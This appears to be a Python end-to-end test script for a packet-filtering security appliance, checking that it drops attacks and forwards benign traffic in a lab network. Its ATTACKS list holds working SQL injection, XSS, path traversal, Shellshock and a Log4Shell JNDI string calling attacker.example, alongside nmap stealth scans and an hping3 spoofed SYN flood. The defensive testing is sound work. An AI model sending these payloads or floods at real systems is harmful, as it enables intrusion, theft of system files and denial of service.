#!/usr/bin/env python3
"""End-to-end tests (issue 8): real tools through the unikernel running inline between two
network namespaces (scripts/e2e_topology.py). Root only: exits 77 (meson's "skipped") with a
message otherwise.

    test_e2e.py KERNEL_ELF [--secreplay PATH] [--results FILE]

Phases, each with its own checks (the last of the first boot, `rules`, loads a rules file with
secctl and checks that its rule drops); every check is recorded (name, ok, figures) in the results
file (JSON) that scripts/e2e_report.py turns into docs/detection.md:
  ping      ICMP echo client -> server and client -> appliance
  benign    500 curl requests (keep-alive and not, varied paths and user agents), byte-identical
  attacks   SQL injection / XSS / traversal / shell requests: dropped, never in the server's
            log, alerts (kernel per-reason counters; EVE records from secreplay on the capture)
  split     a signature split across two TCP segments (TCP_NODELAY, two send() calls)
  nmap      -sX and -sN: no port reported closed/open, scan drops counted
  counters  kernel rx/fwd/drop/self deltas == frames tshark captured on each tap
  flood     hping3 --flood from 10.0.0.66: banned within 1 s, benign client served meanwhile,
            kernel responsive, the source connects again after the ban
"""
import argparse
import hashlib
import json
import os
import random
import shutil
import signal
import socket
import struct
import subprocess
import sys
import time

import e2e_common
from e2e_common import ROOT

# The per-source threshold sits between the busiest benign source (the server answering 4
# parallel clients: ~2600 frames/s with 150 kB files, measured on the taps; the sketch counts every
# source, the server's responses too) and what the kernel takes from hping3 under QEMU TCG
# (~5000 frames/s). Files stay <= 20 kB so the benign peak is well below the threshold.
PPS, BAN_S = 1500, 5
BOOTARGS = 'ip=10.0.0.2/24 pps=%d ban_s=%d report_ms=250' % (PPS, BAN_S)
# The flood phase boots its own appliance with a low threshold: what QEMU (TCG) delivers from
# hping3 depends on the host's load (from ~700 to ~7000 frames/s seen on the shared build
# machine), and the source must be a heavy hitter at the slowest of those rates.
FLOOD_PPS = 300
FLOOD_BOOTARGS = 'ip=10.0.0.2/24 pps=%d ban_s=%d report_ms=250' % (FLOOD_PPS, BAN_S)
KERNEL_MACS = {'52:54:00:12:34:56', '52:54:00:12:34:57'}

results = e2e_common.new_results(bootargs=BOOTARGS, phases={})
check = e2e_common.checker(results)


# --- pcap reading (classic pcap, as tshark -F pcap / tcpdump write it) ---------------------
def pcap_frames(path):
    data = open(path, 'rb').read()
    if len(data) < 24:
        return []
    magic = data[:4]
    endian = '<' if magic in (b'\xd4\xc3\xb2\xa1', b'\x4d\x3c\xb2\xa1') else '>'
    nano = magic in (b'\x4d\x3c\xb2\xa1', b'\xa1\xb2\x3c\x4d')
    off, out = 24, []
    while off + 16 <= len(data):
        sec, frac, caplen, _ = struct.unpack_from(endian + 'IIII', data, off)
        out.append((sec + frac / (1e9 if nano else 1e6), data[off + 16:off + 16 + caplen]))
        off += 16 + caplen
    return out


def mac_text(b):
    return ':'.join('%02x' % x for x in b)


def tcp_payloads(frames, sport):
    """Payload lengths of IPv4/TCP frames from `sport` (untagged)."""
    out = []
    for _, f in frames:
        if len(f) < 34 or f[12:14] != b'\x08\x00' or f[23] != 6:
            continue
        ihl = (f[14] & 15) * 4
        t = 14 + ihl
        if struct.unpack_from('!H', f, t)[0] != sport:
            continue
        total = struct.unpack_from('!H', f, 16)[0]
        doff = (f[t + 12] >> 4) * 4
        out.append(total - ihl - doff)
    return out


# --- tools in the namespaces ------------------------------------------------------------------
class Capture:
    """tshark on a tap inside a namespace, written as classic pcap."""

    def __init__(self, topo, netns, iface, path, filt=None):
        self.path = path
        cmd = ['tshark', '-q', '-n', '-i', iface, '-F', 'pcap', '-w', path]
        if filt:
            cmd += ['-f', filt]
        self.proc = topo.popen(netns, *cmd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        deadline = time.time() + 20
        self.err = ''
        while time.time() < deadline:  # tshark announces "Capturing on 'se-tap0'" once the capture runs
            line = self.proc.stderr.readline()
            self.err += line
            if 'Capturing on' in line or not line:
                break
        time.sleep(0.3)

    def stop(self):
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGINT)
            try:
                self.proc.wait(10)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        return pcap_frames(self.path)


def icmp_ping(topo, dst, count=3):
    """ICMP echo from the client namespace (raw socket; iputils' ping is not a project package)."""
    code = r'''
import os, socket, struct, sys, time
dst, n = sys.argv[1], int(sys.argv[2])
def csum(d):
    if len(d) % 2: d += b"\0"
    s = sum(struct.unpack("!%dH" % (len(d) // 2), d)); s = (s & 0xffff) + (s >> 16); s += s >> 16
    return ~s & 0xffff
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); s.settimeout(2)
ident, ok, rtts = os.getpid() & 0xffff, 0, []
for seq in range(n):
    body = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"secengine-e2e-ping-payload"
    body = body[:2] + struct.pack("!H", csum(body)) + body[4:]
    t0 = time.time(); s.sendto(body, (dst, 0))
    try:
        while True:
            d, a = s.recvfrom(2048); ihl = (d[0] & 15) * 4
            t, _, _, i, q = struct.unpack("!BBHHH", d[ihl:ihl + 8])
            if a[0] == dst and t == 0 and i == ident and q == seq:
                ok += 1; rtts.append((time.time() - t0) * 1000); break
    except socket.timeout:
        pass
print(ok, n, "%.2f" % (sum(rtts) / len(rtts) if rtts else -1))
'''
    r = topo.client(sys.executable, '-c', code, dst, str(count))
    parts = r.stdout.split()
    return (int(parts[0]), int(parts[1]), float(parts[2])) if len(parts) == 3 else (0, count, -1.0)


def make_www(root):
    """Files of varied sizes and contents under nested paths; returns their relative paths."""
    rng = random.Random(8)
    files = []
    sizes = [0, 1, 100, 1000, 1459, 1460, 1461, 2920, 4096, 8192, 10000, 16384, 20000]
    for i, size in enumerate(sizes):
        for kind in ('txt', 'bin'):
            d = os.path.join(root, 'd%d' % (i % 3), 'sub')
            os.makedirs(d, exist_ok=True)
            rel = 'd%d/sub/file-%d.%s' % (i % 3, size, kind)
            if kind == 'txt':
                # Words that appear in signatures, but never in a signature's order (the DPI stage
                # also scans responses; phase_false_drops measures a page that does quote one).
                words = ['alpha', 'beta', 'select', 'script', 'etc', 'passwd', 'GET', 'HTTP', 'sleep']
                data = ' '.join(rng.choice(words) for _ in range(size // 5 + 1)).encode()[:size]
            else:
                data = bytes(rng.getrandbits(8) for _ in range(size))
            open(os.path.join(root, rel), 'wb').write(data)
            files.append(rel)
    open(os.path.join(root, 'index.html'), 'w').write('<html><body>secengine e2e</body></html>\n')
    os.makedirs(os.path.join(root, 'docs'), exist_ok=True)
    open(os.path.join(root, 'docs', 'sql-tutorial.txt'), 'w').write(
        'Combining results: SELECT name FROM staff UNION SELECT name FROM contractors;\n')
    files.append('index.html')
    return files


def stats_quiet(topo, settle=1.5, timeout=20):
    """Kernel stats once no frame arrived for `settle` seconds; `.asked` is when they were asked for."""
    t_ask = time.time()
    last = topo.qemu.stats()
    last_ask, t_last = t_ask, time.time()
    deadline = time.time() + timeout
    while time.time() < deadline:
        time.sleep(0.5)
        t_ask = time.time()
        st = topo.qemu.stats()
        if st['rx'] != last['rx']:
            last, last_ask, t_last = st, t_ask, time.time()
        elif time.time() - t_last >= settle:
            last, last_ask = st, t_ask
            break
    stats_quiet.asked = last_ask
    return last


def delta(a, b):
    return {k: b.get(k, 0) - a.get(k, 0) for k in set(a) | set(b) if k != 't' and b.get(k, 0) != a.get(k, 0)}


# --- phases -------------------------------------------------------------------------------
def phase_ping(topo):
    for name, dst in (('client -> server', '10.0.0.20'), ('client -> appliance', '10.0.0.2')):
        ok, n, rtt = icmp_ping(topo, dst)
        check('ping', 'ping %s (%s)' % (name, dst), ok == n, replies=ok, sent=n, rtt_ms=rtt)


def phase_benign(topo, www, files, work):
    rng = random.Random(500)
    agents = ['curl/7.88.1', 'Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0',
              'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36',
              'Wget/1.21.3', 'python-requests/2.28.1', 'Googlebot/2.1 (+http://www.google.com/bot.html)',
              'secengine-e2e "quoted" agent']
    out = os.path.join(work, 'out')
    os.makedirs(out)
    reqs = []  # (index, relpath)
    lanes = [[] for _ in range(4)]
    idx = 0
    # 250 requests over keep-alive: 25 curl runs of 10 URLs each (one connection per run).
    for run in range(25):
        args = ['curl', '-s', '-g', '--max-time', '60', '-A', rng.choice(agents)]
        for _ in range(10):
            rel = rng.choice(files)
            args += ['http://10.0.0.20/%s?r=%d' % (rel, idx), '-o', '%s/%d' % (out, idx)]
            reqs.append((idx, rel))
            idx += 1
        lanes[run % 4].append((args, [i for i, _ in reqs[-10:]]))
    # 250 requests, one connection each: HTTP/1.0, Connection: close, plain 1.1 with a new process.
    for k in range(250):
        rel = rng.choice(files)
        mode = k % 3
        args = ['curl', '-s', '-g', '--max-time', '60', '-A', rng.choice(agents), '-H', 'Accept: */*']
        if mode == 0:
            args.append('--http1.0')
        elif mode == 1:
            args += ['-H', 'Connection: close']
        args += ['http://10.0.0.20/%s?r=%d' % (rel, idx), '-o', '%s/%d' % (out, idx)]
        reqs.append((idx, rel))
        lanes[k % 4].append((args, [idx]))
        idx += 1

    def q(a):
        return "'" + a.replace("'", "'\\''") + "'"
    script = os.path.join(work, 'benign.sh')
    with open(script, 'w') as f:
        for li, lane in enumerate(lanes):
            f.write('(\n')
            for args, ids in lane:
                f.write('%s; echo "$? %s" >> %s/status-%d\n' % (' '.join(q(a) for a in args), ' '.join(map(str, ids)), work, li))
            f.write(') &\n')
        f.write('wait\n')
    t0 = time.time()
    topo.client('bash', script, timeout=600)
    secs = time.time() - t0
    rc = {}
    for li in range(4):
        p = os.path.join(work, 'status-%d' % li)
        for line in open(p) if os.path.exists(p) else []:
            parts = line.split()
            for i in parts[1:]:
                rc[int(i)] = int(parts[0])
    ok = same = 0
    for i, rel in reqs:
        good = rc.get(i) == 0
        ok += good
        p = os.path.join(out, str(i))
        if good and os.path.exists(p) and open(p, 'rb').read() == open(os.path.join(www, rel), 'rb').read():
            same += 1
    served = sum(1 for l in topo.server_log().splitlines() if '"GET /' in l and '?r=' in l)
    sizes = sorted(os.path.getsize(os.path.join(www, f)) for f in files)
    results['phases']['benign'] = {'files': len(files), 'min_bytes': sizes[0], 'max_bytes': sizes[-1], 'requests': len(reqs), 'succeeded': ok, 'identical': same, 'seconds': round(secs, 1),
                                   'keepalive_requests': 250, 'single_requests': 250, 'server_log_lines': served}
    check('benign', '%d curl requests succeed' % len(reqs), ok == len(reqs), succeeded=ok, requests=len(reqs), seconds=round(secs, 1))
    check('benign', 'responses byte-identical to the served files', same == len(reqs), identical=same)
    check('benign', 'server log has every request', served == len(reqs), logged=served)
    return len(reqs) - ok


ATTACKS = [
    # (marker, family, curl arguments after the URL base, signature expected)
    ('sqli-tautology', 'SQL injection', ['http://10.0.0.20/sqli-tautology?id=1%27%20OR%20%271%27%3D%271'], 1003),
    ('sqli-union', 'SQL injection', ['http://10.0.0.20/sqli-union?cat=1%20UNION%20SELECT%20username,password%20FROM%20users'], 1001),
    ('sqli-sleep', 'SQL injection', ['http://10.0.0.20/sqli-sleep?id=1%20AND%20SLEEP(5)'], 1009),
    # In a form body: the built-in literal rules look at the URI; the injection detector (slot 6,
    # docs/inject.md) finds it by syntax ("string break + boolean condition").
    ('sqli-post', 'SQL injection', ['-d', "user=admin' or 1=1-- &pass=x", 'http://10.0.0.20/sqli-post'], 1200005),
    ('xss-script', 'XSS', ['http://10.0.0.20/xss-script?q=%3Cscript%3Ealert(1)%3C/script%3E'], 2001),
    ('xss-svg', 'XSS', ['http://10.0.0.20/xss-svg?q=%3Csvg/onload=alert(1)%3E'], 2006),
    ('xss-attr', 'XSS', ['http://10.0.0.20/xss-attr?q=%22%3E%3Cscript%3Edocument.cookie'], 2008),
    ('traversal-dots', 'path traversal', ['--path-as-is', 'http://10.0.0.20/traversal-dots/../../../../etc/passwd'], 3001),
    # Encoded: no "../" in the raw URI for rule 3001; the detector decodes it ("dot-dot segment").
    ('traversal-encoded', 'path traversal', ['http://10.0.0.20/traversal-encoded/..%2F..%2F..%2Fetc%2Fshadow'], 1200301),
    ('shell-jndi', 'shell / code injection', ['-A', '${jndi:ldap://attacker.example/a}', 'http://10.0.0.20/shell-jndi'], 4002),
    ('shell-shock', 'shell / code injection', ['-A', '() { :; }; /bin/cat /etc/passwd', 'http://10.0.0.20/shell-shock'], 4001),
]


def keep_failure(name, files, **facts):
    """Copies a failed phase's captures (and its figures) to build/e2e-failures/<name>-<time>/,
    outside the work directory that the run deletes, so that a flake can be read afterwards."""
    dest = os.path.join(ROOT, 'build', 'e2e-failures', '%s-%s' % (name, time.strftime('%Y%m%d-%H%M%S', time.gmtime())))
    os.makedirs(dest, exist_ok=True)
    for f in files:
        if os.path.exists(f):
            shutil.copy(f, dest)
    with open(os.path.join(dest, 'facts.json'), 'w') as out:
        json.dump(facts, out, indent=1, default=str)
    print('capture of the failed %s phase kept in %s' % (name, dest), flush=True)
    return dest


def phase_attacks(topo, work, secreplay):
    cap = Capture(topo, 'client', 'se-tap0', os.path.join(work, 'attacks.pcap'))
    # The server side too: a benign request that gets no answer either never reached the
    # server or its answer never came back through the appliance; both taps tell which.
    srv_cap = Capture(topo, 'server', 'se-tap1', os.path.join(work, 'attacks-server.pcap'))
    before = topo.qemu.stats()
    procs = []
    for i, (marker, fam, args, sid) in enumerate(ATTACKS):
        port = 31000 + i
        procs.append(topo.popen('client', 'curl', '-s', '-g', '--max-time', '4', '--local-port', str(port), *args,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    # A benign request at the same time: no false drop.
    control = topo.client('curl', '-s', '--max-time', '10', '-o', '/dev/null', '-w', '%{http_code} %{local_port}',
                          'http://10.0.0.20/index.html')
    control_code, _, control_port = control.stdout.partition(' ')
    rcs = [p.wait() for p in procs]
    topo.client('ss', '-K', 'dst', '10.0.0.20')  # stop the retransmissions of the dropped segments
    after = stats_quiet(topo)
    frames = cap.stop()
    srv_cap.stop()
    d = delta(before, after)
    log = topo.server_log()
    eve = []
    if secreplay:
        r = subprocess.run([secreplay, '--eve', cap.path], capture_output=True, text=True)
        eve = [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
    rows = []
    for i, (marker, fam, args, sid) in enumerate(ATTACKS):
        port = 31000 + i
        alerts = [e for e in eve if e.get('src_port') == port]
        sids = sorted({e['alert']['signature_id'] for e in alerts})
        in_log = marker in log
        rows.append({'attack': marker, 'family': fam, 'curl': ' '.join(args), 'curl_rc': rcs[i], 'reached_server': in_log,
                     'replay_alerts': len(alerts), 'signature_ids': sids,
                     'signature': alerts[0]['alert']['signature'] if alerts else ''})
        check('attacks', '%s never reaches the server' % marker, not in_log and rcs[i] != 0, curl_rc=rcs[i])
        if secreplay:
            check('attacks', '%s alerts with signature %d (secreplay on the capture)' % (marker, sid), sid in sids, sids=sids)
    results['phases']['attacks'] = {'rows': rows, 'kernel_delta': d, 'control_http_code': control_code,
                                    'control_port': control_port,
                                    'replay_dpi_alerts': sum(1 for e in eve if e['alert']['signature_id'] < 9000000)}
    dpi = d.get('dpi_signature', 0)
    check('attacks', 'kernel dropped the attack segments by signature (dpi_signature counter)', dpi >= len(ATTACKS),
          dpi_signature=dpi, attacks=len(ATTACKS))
    # Besides the signature drops only the stream normaliser's refusals (docs/stream.md) may show:
    # segments of the dropped attack connections that come after their verdict left the ring
    # (curl's FIN then retransmitted data, a reset out of window) - at most a few per connection.
    others = {k: v for k, v in d.items() if k not in ('rx', 'fwd', 'drop', 'self', 'echo', 'arp', 'ping', 'mgmt', 'flows', 'hh', 'dpi_signature')}
    normaliser = ('stream_invalid', 'stream_out_of_order', 'out_of_window')
    check('attacks', 'only signature drops (and the normaliser refusing stray segments of the dropped connections) during the attacks',
          set(others) <= set(normaliser) and sum(others.values()) <= 3 * len(ATTACKS), kernel_delta=d)
    if not check('attacks', 'benign request during the attacks served (no false drop)', control_code == '200',
                 http_code=control_code, local_port=control_port):
        keep_failure('attacks', [cap.path, srv_cap.path], kernel_delta=d, control_port=control_port,
                     curl_rcs=rcs, stats_before=before, stats_after=after,
                     uart_tail=[l for l in topo.qemu.lines[-40:] if l])
    if secreplay:
        # Drops, not alerts: slot 6 alerts once per connection and drops its retransmissions
        # silently while the connection is in its verdict ring (docs/rules.md), in the kernel and
        # in secreplay alike.
        counters = dict(l.split('=', 1) for l in r.stderr.splitlines() if '=' in l and ' ' not in l)
        rp = int(counters.get('drop.dpi_signature', '0'))
        # Not exactly equal any more: the kernel also sees the server port's frames, which are not
        # in this capture (it drops those of dropped connections too) and which reorder slot 6's
        # least-recently-seen sessions and verdict ring. Seen: the kernel 1-4 frames above the
        # replay; allowed: one frame per attack connection either way.
        check('attacks', 'secreplay on the client-tap capture drops as many frames by signature as the kernel '
              '(within one per attack)', abs(rp - dpi) <= len(ATTACKS), replay=rp, kernel=dpi, frames=len(frames))



SPLIT_CLIENT = r'''
import socket, sys, time
s = socket.socket(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.bind(("10.0.0.10", 31100)); s.settimeout(5); s.connect(("10.0.0.20", 80))
s.send(b"GET /split-marker?q=1%20UNI"); time.sleep(0.3)
s.send(b"ON%20SELECT%20password%20FROM%20users HTTP/1.1\r\nHost: 10.0.0.20\r\n\r\n")
try:
    print("response", len(s.recv(4096)))
except socket.timeout:
    print("no-response")
'''


def phase_split(topo, work):
    cap = Capture(topo, 'client', 'se-tap0', os.path.join(work, 'split.pcap'), 'tcp port 31100')
    before = topo.qemu.stats()
    r = topo.client(sys.executable, '-c', SPLIT_CLIENT, timeout=30)
    topo.client('ss', '-K', 'dst', '10.0.0.20')
    after = stats_quiet(topo)
    frames = cap.stop()
    segs = [n for n in tcp_payloads(frames, 31100) if n > 0]
    d = delta(before, after)
    distinct = sorted(set(segs))
    results['phases']['split'] = {'client_said': r.stdout.strip(), 'payload_segments': segs, 'kernel_delta': d}
    check('split', 'the request left the client as two TCP segments', len(distinct) >= 2, segment_sizes=distinct)
    check('split', 'split "UNI|ON SELECT" never reaches the server', 'split-marker' not in topo.server_log() and 'no-response' in r.stdout,
          client=r.stdout.strip())
    check('split', 'kernel dropped it by signature', d.get('dpi_signature', 0) >= 1, dpi_signature=d.get('dpi_signature', 0))


def phase_false_drops(topo):
    """Benign content that quotes a signature: measured and reported, not asserted (the DPI
    stage scans the server's responses too, docs/dpi.md)."""
    before = topo.qemu.stats()
    r = topo.client('curl', '-s', '--max-time', '4', '-o', '/dev/null', '-w', '%{http_code} %{size_download}',
                    'http://10.0.0.20/docs/sql-tutorial.txt')
    topo.client('ss', '-K', 'dst', '10.0.0.20')
    d = delta(before, stats_quiet(topo))
    results['phases']['false_drops'] = [{'request': 'GET /docs/sql-tutorial.txt (a page quoting "... UNION SELECT ...")',
                                         'curl': 'exit %d, %s' % (r.returncode, r.stdout or '-'), 'blocked': r.returncode != 0,
                                         'dpi_signature': d.get('dpi_signature', 0)}]
    print('info [false_drops] SQL tutorial page: curl exit %d (%s), kernel %s' % (r.returncode, r.stdout, d), flush=True)


RULES_FILE = '''# e2e: a rule set loaded into the running appliance with secctl (docs/rules.md)
drop http any any -> any any (msg:"e2e: forbidden path"; flow:to_server; http.uri; content:"/e2e-forbidden"; nocase; sid:9100001; rev:1;)
'''


def phase_rules(topo, work, secctl):
    """`secctl rules load` from the client namespace over the management plane (issue 11): the
    loaded rule drops a request the built-in set lets through, and `rules list` counts its hit.
    It runs last on this boot: the loaded set replaces the built-in one."""
    path = os.path.join(work, 'e2e.rules')
    with open(path, 'w') as f:
        f.write(RULES_FILE)
    base = [secctl, '--appliance', '10.0.0.2:7400', '--timeout', '1000']
    before = topo.client('curl', '-s', '--max-time', '3', '-o', '/dev/null', '-w', '%{http_code}', 'http://10.0.0.20/e2e-forbidden/x')
    check('rules', 'before the load the request is served', before.stdout == '404' or before.stdout == '200', http_code=before.stdout)
    r = topo.client(*base, 'rules', 'load', path)
    check('rules', 'secctl rules load over the management plane', r.returncode == 0 and 'rules load: ok, 1 rule' in r.stdout,
          rc=r.returncode, out=(r.stdout + r.stderr).strip()[-200:])
    after = topo.client('curl', '-s', '--max-time', '3', '-o', '/dev/null', '-w', '%{http_code}', 'http://10.0.0.20/e2e-forbidden/y')
    topo.client('ss', '-K', 'dst', '10.0.0.20')
    check('rules', 'the loaded rule drops the request (it never reaches the server)',
          after.returncode != 0 and 'e2e-forbidden/y' not in topo.server_log(), curl_rc=after.returncode)
    lst = topo.client(*base, 'rules', 'list')
    row = [l for l in lst.stdout.splitlines() if l.strip().startswith('9100001')]
    check('rules', 'rules list shows the rule with its hit', bool(row) and row[0].split()[3] != '0', rows=row)


def phase_nmap(topo):
    rows = []
    for flag, name in (('-sX', 'Xmas'), ('-sN', 'NULL')):
        before = topo.qemu.stats()
        r = topo.client('nmap', flag, '-Pn', '-n', '-T4', '--max-retries', '1', '-p', '20-25,53,80,443,8080,8443', '10.0.0.20', timeout=120)
        after = stats_quiet(topo)
        d = delta(before, after)
        states = {}
        for line in r.stdout.splitlines():
            parts = line.split()
            if len(parts) >= 2 and '/tcp' in parts[0]:
                states[parts[0]] = parts[1]
        if 'Not shown:' in r.stdout:  # nmap folds equal states into one line
            for line in r.stdout.splitlines():
                if line.strip().startswith('Not shown:'):
                    states['(folded)'] = line.strip()
        folded_ok = all('open|filtered' in v or v == 'open|filtered' or v == 'filtered' for v in states.values())
        explicit = {k: v for k, v in states.items() if k != '(folded)'}
        all_ports = '11 open|filtered' in r.stdout or (len(explicit) == 11 and folded_ok) or 'All 11 scanned ports' in r.stdout
        rows.append({'scan': 'nmap ' + flag, 'ports': 11, 'states': states, 'scan_drops': d.get('scan', 0), 'fwd': d.get('fwd', 0)})
        check('nmap', 'nmap %s (%s scan): all 11 ports open|filtered, none closed' % (flag, name),
              all_ports and 'closed' not in r.stdout, summary=[l for l in r.stdout.splitlines() if 'filtered' in l or 'closed' in l][:4])
        check('nmap', 'nmap %s: probes dropped as scans, none forwarded to the server' % flag,
              d.get('scan', 0) >= 11, scan=d.get('scan', 0), kernel_delta=d)
    results['phases']['nmap'] = rows


def counters_vs_capture(topo, work, run):
    """Runs `run()` with tshark on both taps and compares the kernel's counters to the captures."""
    mac0 = topo.client('cat', '/sys/class/net/se-tap0/address').stdout.strip()
    mac1 = topo.server('cat', '/sys/class/net/se-tap1/address').stdout.strip()
    c0 = Capture(topo, 'client', 'se-tap0', os.path.join(work, 'tap0.pcap'))
    c1 = Capture(topo, 'server', 'se-tap1', os.path.join(work, 'tap1.pcap'))
    before = stats_quiet(topo)
    t0 = stats_quiet.asked
    run()
    after = stats_quiet(topo)
    t1 = stats_quiet.asked
    # Only frames between the two stats requests: a late ARP refresh after the last request is
    # on the capture but not yet in the counters.
    f0 = [x for x in c0.stop() if t0 <= x[0] <= t1]
    f1 = [x for x in c1.stop() if t0 <= x[0] <= t1]
    d = delta(before, after)
    src0 = [mac_text(f[6:12]) for _, f in f0]
    src1 = [mac_text(f[6:12]) for _, f in f1]
    client_sent = src0.count(mac0)
    server_sent = src1.count(mac1)
    fwd_to_server = src1.count(mac0)
    fwd_to_client = src0.count(mac1)
    own = sum(1 for m in src0 + src1 if m in KERNEL_MACS)
    other = len(src0) + len(src1) - client_sent - server_sent - fwd_to_server - fwd_to_client - own
    fig = {'tap0_frames': len(f0), 'tap1_frames': len(f1), 'client_sent': client_sent, 'server_sent': server_sent,
           'forwarded_to_server': fwd_to_server, 'forwarded_to_client': fwd_to_client, 'appliance_replies': own,
           'other': other, 'kernel_delta': d}
    results['phases']['counters'] = fig
    check('counters', 'kernel rx == frames sent into the taps (client on tap0 + server on tap1)',
          d.get('rx', 0) == client_sent + server_sent, kernel_rx=d.get('rx', 0), captured=client_sent + server_sent)
    check('counters', 'kernel fwd == frames it put out on the other tap',
          d.get('fwd', 0) == fwd_to_server + fwd_to_client, kernel_fwd=d.get('fwd', 0), captured=fwd_to_server + fwd_to_client)
    check('counters', 'kernel arp + ping replies == frames from the appliance MACs',
          d.get('arp', 0) + d.get('ping', 0) == own, kernel=d.get('arp', 0) + d.get('ping', 0), captured=own)
    check('counters', 'kernel drop == sent - forwarded - to the appliance',
          d.get('drop', 0) == client_sent + server_sent - fwd_to_server - fwd_to_client - d.get('self', 0),
          kernel_drop=d.get('drop', 0))


def phase_flood(topo, work, www):
    seconds = 3
    first = topo.popen('client', 'tcpdump', '-n', '-i', 'se-tap0', '-c', '1', '-tt', '-l', 'src host 10.0.0.66',
                       stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
    srv = Capture(topo, 'server', 'se-tap1', os.path.join(work, 'flood-server.pcap'), 'src host 10.0.0.66')
    before = topo.qemu.stats()
    n_lines = len(topo.qemu.lines)
    flood = topo.popen('client', 'timeout', '-s', 'INT', str(seconds), 'hping3', '--flood', '-S', '-p', '80', '-a', '10.0.0.66',
                       '10.0.0.20', stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    t_start = time.time()
    # Benign client during the flood: requests from 10.0.0.10 keep being served.
    served, tried = 0, 0
    while time.time() - t_start < seconds:
        tried += 1
        r = topo.client('curl', '-s', '--max-time', '8', '-o', '/dev/null', '-w', '%{http_code}', 'http://10.0.0.20/index.html')
        served += r.stdout == '200'
    flood.wait()
    t_end = time.time()
    ping_ok, ping_n, _ = icmp_ping(topo, '10.0.0.2', 3)
    after = stats_quiet(topo, settle=1.0)
    try:
        out, _ = first.communicate(timeout=5)
    except subprocess.TimeoutExpired:
        first.kill()
        out = ''
    t_first = float(out.split()[0]) if out.split() else None
    fwd = srv.stop()
    t_last = fwd[-1][0] if fwd else None
    d = delta(before, after)
    reports = [l for l in topo.qemu.lines[n_lines:] if l and 'secengine: stats' in l]
    ban_after = (t_last - t_first) if (t_first and t_last) else None
    # The ban expires BAN_S after it was issued; the source may then connect again. During the
    # flood 10.0.0.66 was nobody's address, so the server's SYN-ACKs to it stayed behind an
    # unanswered ARP (otherwise they would count toward the server's own rate); now the client
    # takes the address and connects from it.
    topo.client('ip', 'addr', 'add', '10.0.0.66/24', 'dev', 'se-tap0')
    wait = max(0.0, (t_end + BAN_S + 1.5) - time.time())
    time.sleep(wait)
    again = topo.client('curl', '-s', '--interface', '10.0.0.66', '--max-time', '10', '-o', '/dev/null', '-w', '%{http_code}',
                        'http://10.0.0.20/index.html')
    results['phases']['flood'] = {'seconds': seconds, 'kernel_delta': d, 'flood_frames_forwarded': len(fwd),
                                  'forwarded_for_s': ban_after, 'benign_served': served, 'benign_tried': tried,
                                  'stats_lines_during_flood': len(reports), 'ping_appliance_after': ping_ok,
                                  'reconnect_http_code': again.stdout}
    check('flood', 'flood source banned (heavy_hitter) and its packets meet the penalty box',
          d.get('heavy_hitter', 0) >= 1 and d.get('penalty_box', 0) > 0, heavy_hitter=d.get('heavy_hitter', 0),
          penalty_box=d.get('penalty_box', 0), rx=d.get('rx', 0))
    # "Banned within one second", stated on the engine's own clock so a loaded host cannot make
    # it flaky: the sketch counts per 1 s window and bans when a source exceeds PPS in one, so
    # a source is cut off within its first full window iff the server saw at most one partial
    # window plus one full window of its frames (<= 2 * PPS). The wall-clock time from the first
    # flood frame on the client tap to the last one on the server tap is reported alongside.
    check('flood', 'flood source cut off within its first full 1 s window (<= 2 x %d frames reached the server)' % FLOOD_PPS,
          ban_after is not None and len(fwd) <= 2 * FLOOD_PPS, forwarded=len(fwd), forwarded_for_s=ban_after, threshold_pps=FLOOD_PPS)
    check('flood', 'benign client served during the flood', tried > 0 and served == tried, served=served, tried=tried)
    check('flood', 'kernel stays responsive (periodic stats during the flood, ping after)',
          len(reports) >= seconds * 2 and ping_ok >= 1, stats_lines=len(reports), ping_replies=ping_ok)
    check('flood', 'the source connects again after the %d s ban' % BAN_S, again.stdout == '200', http_code=again.stdout)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('elf')
    ap.add_argument('--secreplay', default=os.path.join(ROOT, 'build', 'host', 'apps', 'secreplay', 'secreplay'))
    ap.add_argument('--results', default=None)
    ap.add_argument('--keep', action='store_true', help='keep captures and logs (work directory printed)')
    ap.add_argument('--attacks-loop', type=int, default=0, metavar='N',
                    help='reproduce a flake: the ping, benign and nmap phases once, then only the attacks phase N times '
                         '(a failed one keeps its captures under build/e2e-failures/)')
    a = ap.parse_args()
    rc = e2e_common.preflight('end-to-end tests', ('tshark', 'tcpdump', 'nmap', 'hping3', 'curl', 'ss'))
    if rc is not None:
        return rc
    elf = os.environ.get('SECENGINE_E2E_ELF', a.elf)
    secreplay = a.secreplay if os.path.exists(a.secreplay) else None
    secctl = os.path.join(ROOT, 'build', 'host', 'apps', 'secctl', 'secctl')
    secctl = secctl if os.path.exists(secctl) else None
    if not secctl:
        print('note: %s not built: the rules phase is skipped (build the host tree first)' % os.path.join('build', 'host', 'apps', 'secctl', 'secctl'))
    if not secreplay:
        print('note: %s not built: EVE cross-checks of the captures skipped (build the host tree first)' % a.secreplay)
    import e2e_topology
    results['elf'] = elf

    def body(work):
        www = os.path.join(work, 'www')
        files = make_www(www)
        with e2e_topology.Topology(elf, www, BOOTARGS, log_dir=work) as topo:
            results['ready'] = topo.qemu.ready.group(0)
            boot = [l for l in topo.qemu.lines if l and 'secengine: boot ' in l]
            results['boot'] = boot[0] if boot else ''
            print(results['ready'], flush=True)

            def traffic():
                phase_ping(topo)
                phase_benign(topo, www, files, work)
                phase_nmap(topo)
            counters_vs_capture(topo, work, traffic)
            if a.attacks_loop > 0:
                for k in range(a.attacks_loop):
                    print('attacks phase, run %d of %d' % (k + 1, a.attacks_loop), flush=True)
                    phase_attacks(topo, work, secreplay)
                    time.sleep(1)
                return
            phase_attacks(topo, work, secreplay)
            phase_split(topo, work)
            phase_false_drops(topo)
            if secctl:
                phase_rules(topo, work, secctl)
            results['final_stats'] = topo.qemu.stats()
